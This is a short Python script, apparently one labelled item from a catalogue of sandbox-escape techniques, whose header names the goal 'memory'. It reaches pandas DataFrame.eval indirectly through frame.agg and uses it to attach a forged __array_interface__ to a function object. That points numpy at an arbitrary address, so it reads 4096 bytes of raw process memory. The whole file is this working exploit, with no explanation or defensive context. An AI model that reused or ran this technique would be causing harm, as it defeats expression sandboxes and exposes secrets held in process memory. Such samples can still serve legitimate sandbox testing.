# class: numpy_memory
# technique: np.asarray on a DummyArray-free object: the interface dict is attached in expression text to a plain function object (@f.__dict__.update(...)) (DataFrame.eval reached as frame.agg bound to a name and called as run('eval', ...))
# goal: memory
import numpy as np
import pandas as pd

frame = pd.DataFrame({"x": np.arange(2)})
run = frame.agg


def ev(expr, **names):
    return run("eval", 0, expr, local_dict=names)

u = "_" * 2


def carrier():
    return None


spec = {"data": (id(carrier) - 1024, False), "shape": (4096,), "typestr": "|u1", "version": 3}
ev("@f." + u + "dict" + u + ".update(@d)", f=carrier, d={u + "array_interface" + u: spec})
df = pd.DataFrame({"byte": np.asarray(carrier).copy()})
